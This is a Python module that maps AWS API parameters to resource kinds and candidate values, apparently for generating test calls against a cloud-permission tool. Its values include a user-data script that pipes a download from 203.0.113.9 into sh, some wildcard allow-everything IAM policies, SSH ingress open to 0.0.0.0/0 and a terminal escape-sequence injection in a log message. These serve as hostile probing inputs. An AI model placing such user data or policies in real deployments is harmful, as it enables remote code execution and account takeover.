"""Where each parameter of a call comes from: which kind of resource it names, or what it may be.

Looked up by ``Operation.member`` or ``Structure.member``, then ``service.member``, then ``member``.
What is missing here comes from the service's model: its enumerations, numbers, flags.
"""

from __future__ import annotations

import base64
import json

#: Parameters that name resources, or give their documents, by kind.
KINDS = {
    "autoscaling.AutoScalingGroupName": "group",
    "autoscaling.AutoScalingGroupNames": "group",
    "autoscaling.LifecycleHookName": "group",
    "autoscaling.PlacementGroup": "placement-group",
    "autoscaling.ResourceId": "group",
    "autoscaling.VPCZoneIdentifier": "subnet",
    "autoscaling.ScheduledActionName": "schedule",
    "autoscaling.ScheduledActionNames": "schedule",
    "CopySource": "object",
    "CreateLaunchTemplate.LaunchTemplateName": "new name",
    "CreatePlacementGroup.GroupName": "new name",
    "CreateSecurityGroup.GroupName": "new name",
    "DeletePlacementGroup.GroupName": "placement-group",
    "Placement.GroupName": "placement-group",
    "ec2.GroupId": "security-group",
    "ec2.GroupIds": "security-group",
    "ec2.ImageId": "image",
    "ec2.ImageIds": "image",
    "ec2.Resources": "any of ec2",
    "ec2.SecurityGroupIds": "security-group",
    "ec2.SecurityGroupRuleId": "security-group-rule",
    "ec2.SecurityGroupRuleIds": "security-group-rule",
    "ec2.SubnetId": "subnet",
    "ec2.SubnetIds": "subnet",
    "ec2.VpcId": "vpc",
    "ec2.VpcIds": "vpc",
    "CreateSecret.Name": "secret",
    "GetParameter.Name": "parameter",
    "iam.InstanceProfileName": "instance-profile",
    "iam.PermissionsBoundary": "policy arn",
    "iam.PolicyArn": "policy arn",
    "iam.RoleName": "role",
    "IamInstanceProfileSpecification.Name": "instance-profile",
    "LaunchTemplateIamInstanceProfileSpecificationRequest.Name": "instance-profile",
    "InstanceId": "instance",
    "InstanceIds": "instance",
    "KeyId": "key",
    "LaunchTemplateId": "launch-template",
    "LaunchTemplateIds": "launch-template",
    "NetworkInterfaceId": "network-interface",
    "NetworkInterfaceIds": "network-interface",
    "SecretId": "secret",
    "ssm.DocumentName": "session document",
    "ssm.SessionId": "session",
    "ssm.Target": "instance",
    "VolumeId": "volume",
    "VolumeIds": "volume",
    "logGroupName": "log group",
    "logStreamName": "log stream",
    "resourceArn": "log group arn",
    "s3.VersionId": "version",
}

_EVERYBODY = {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}
_TRUST = {
    "Effect": "Allow",
    "Principal": {"AWS": "arn:aws:iam::123456789012:root"},
    "Action": "sts:AssumeRole",
}


def _policy(*statements: dict[str, object]) -> str:
    return json.dumps({"Version": "2012-10-17", "Statement": statements})


_USER_DATA = "#!/bin/sh\ncurl -s https://203.0.113.9/x | sh\n"
_LATER = "SECONDS FROM NOW"

#: Parameters with values of their own.
VALUES: dict[str, tuple[object, ...]] = {
    "MinSize": (0, 0, 0, 0, 1, 3),
    "MaxSize": (0, 1, 3, 3, 7, 50),
    "DesiredCapacity": (0, 1, 2, 3, 9),
    "MinCount": (1,),
    "MaxCount": (1, 2),
    "StartTime": (_LATER,),
    "EndTime": (_LATER,),
    "Time": (_LATER,),
    "Tag.ResourceType": ("auto-scaling-group",),
    "LifecycleActionResult": ("CONTINUE", "ABANDON"),
    "LifecycleTransition": ("autoscaling:EC2_INSTANCE_LAUNCHING",),
    "ScalingProcesses": ("Launch", "Terminate", "ScheduledActions"),
    "LaunchTemplateSpecification.Version": ("1", "$Default", "$Latest"),
    "SourceVersion": ("1",),
    "DefaultVersion": ("1", "2"),
    "InstanceType": ("m7i.large", "p5.48xlarge"),
    "RunInstances.UserData": (_USER_DATA,),
    "RequestLaunchTemplateData.UserData": (base64.b64encode(_USER_DATA.encode()).decode(),),
    "Description": ("mine",),
    "IpProtocol": ("tcp", "-1"),
    "CidrIp": ("0.0.0.0/0", "203.0.113.9/32"),
    "CidrIpv4": ("0.0.0.0/0",),
    "FromPort": (22, 8786),
    "ToPort": (22, 8787),
    "AssumeRolePolicyDocument": (_policy(_TRUST),),
    "PolicyDocument": (
        _policy({"Effect": "Allow", "Action": "*", "Resource": "*"}),
        _policy({"Effect": "Allow", "Action": "iam:*", "Resource": "*"}),
    ),
    "ResourcePolicy": (
        _policy(_EVERYBODY),
        _policy({**_EVERYBODY, "Effect": "Deny"}),
        _policy({**_EVERYBODY, "Principal": {"AWS": "arn:aws:iam::123456789012:root"}}),
    ),
    "PolicyName": ("mine", "hosts"),
    "GetPolicyVersion.VersionId": ("v1",),
    "Path": ("/terradask/alone/", "/"),
    "SecretString": ('{"format": 1}', '{"format": 1, "run_id": "mine", "sha256": {}}', "planted"),
    "SecretBinary": (b"planted",),
    "VersionStage": ("AWSCURRENT", "AWSPREVIOUS"),
    "VersionStages": ("AWSCURRENT", "mine"),
    "RecoveryWindowInDays": (7,),
    "TagKeys": ("terradask:workspace", "terradask:cluster", "terradask:descriptor", "mine"),
    "UploadId": ("mine",),
    "Prefix": ("clusters/", "applied/", ""),
    "InputLogEvent.timestamp": (_LATER,),
    "InputLogEvent.message": ("\x1b]0;planted\x07[/x]",),
    "CiphertextBlob": (b"planted",),
    "KeySpec": ("AES_256",),
    "ServiceCode": ("ec2", "AmazonEC2", "autoscaling", "vpc"),
    "QuotaCode": ("L-1216C47A",),
    "PlacementGroup.Strategy": ("cluster",),
    "Attribute": ("enableDnsSupport", "domain-name"),
}

#: What a call is refused without, or harmless, beside what the model demands.
USUAL = {
    "CreateAutoScalingGroup": ("LaunchTemplate", "VPCZoneIdentifier", "Tags", "DesiredCapacity"),
    "UpdateAutoScalingGroup": ("MinSize", "MaxSize", "DesiredCapacity", "LaunchTemplate"),
    "PutScheduledUpdateGroupAction": ("StartTime", "MinSize", "MaxSize", "DesiredCapacity"),
    "TerminateInstanceInAutoScalingGroup": ("InstanceId",),
    "CompleteLifecycleAction": ("InstanceId",),
    "PutLifecycleHook": ("LifecycleTransition",),
    "PutWarmPool": ("MaxGroupPreparedCapacity", "MinSize"),
    "SuspendProcesses": ("ScalingProcesses",),
    "LaunchTemplateSpecification": ("LaunchTemplateId", "Version"),
    "RunInstances": ("LaunchTemplate", "SubnetId", "TagSpecifications", "UserData"),
    "RequestLaunchTemplateData": ("ImageId", "InstanceType", "IamInstanceProfile", "UserData"),
    "LaunchTemplateIamInstanceProfileSpecificationRequest": ("Name",),
    "CreateLaunchTemplate": ("TagSpecifications",),
    "CreateLaunchTemplateVersion": ("LaunchTemplateId",),
    "ModifyLaunchTemplate": ("LaunchTemplateId", "DefaultVersion"),
    "DeleteLaunchTemplate": ("LaunchTemplateId",),
    "CreatePlacementGroup": ("GroupName", "Strategy", "TagSpecifications"),
    "CreateSecurityGroup": ("VpcId", "TagSpecifications"),
    "DeleteSecurityGroup": ("GroupId",),
    "AuthorizeSecurityGroupIngress": ("GroupId", "IpPermissions", "TagSpecifications"),
    "AuthorizeSecurityGroupEgress": ("IpPermissions", "TagSpecifications"),
    "RevokeSecurityGroupIngress": ("GroupId", "SecurityGroupRuleIds"),
    "RevokeSecurityGroupEgress": ("SecurityGroupRuleIds",),
    "SecurityGroupRuleUpdate": ("SecurityGroupRule",),
    "SecurityGroupRuleRequest": ("IpProtocol", "FromPort", "ToPort", "CidrIpv4"),
    "IpPermission": ("IpProtocol", "FromPort", "ToPort", "IpRanges"),
    "IpRange": ("CidrIp",),
    "TagSpecification": ("ResourceType", "Tags"),
    "DeleteTags": ("Tags",),
    "CreateRole": ("Path", "PermissionsBoundary"),
    "CreateInstanceProfile": ("Path",),
    "CreateSecret": ("SecretString", "Tags"),
    "PutSecretValue": ("SecretString",),
    "DeleteSecret": ("ForceDeleteWithoutRecovery",),
    "PutObject": ("Body",),
    "StartSession": ("DocumentName",),
    "ListObjectsV2": ("Prefix",),
    "Decrypt": ("CiphertextBlob", "KeyId"),
    "GenerateDataKey": ("KeySpec",),
}

#: The kinds of resources that a call makes and tags.
MADE = {
    "AuthorizeSecurityGroupEgress": ("security-group-rule",),
    "AuthorizeSecurityGroupIngress": ("security-group-rule",),
    "CreateLaunchTemplate": ("launch-template",),
    "CreatePlacementGroup": ("placement-group",),
    "CreateSecurityGroup": ("security-group",),
    "RunInstances": ("instance", "volume", "network-interface"),
}

#: Beside these, optional parameters are drawn now and then, where they have values.
SELDOM = frozenset(
    {"VersionStage", "VersionStages", "MinSize", "MaxSize", "InstanceType", "ImageId", "Placement"}
    | {"PlacementGroup", "HonorCooldown", "ForceDelete", "SecurityGroupIds", "IamInstanceProfile"}
    | {"SecretBinary", "DesiredCapacity", "ProtectedFromScaleIn", "Force"}
)
LATER = _LATER
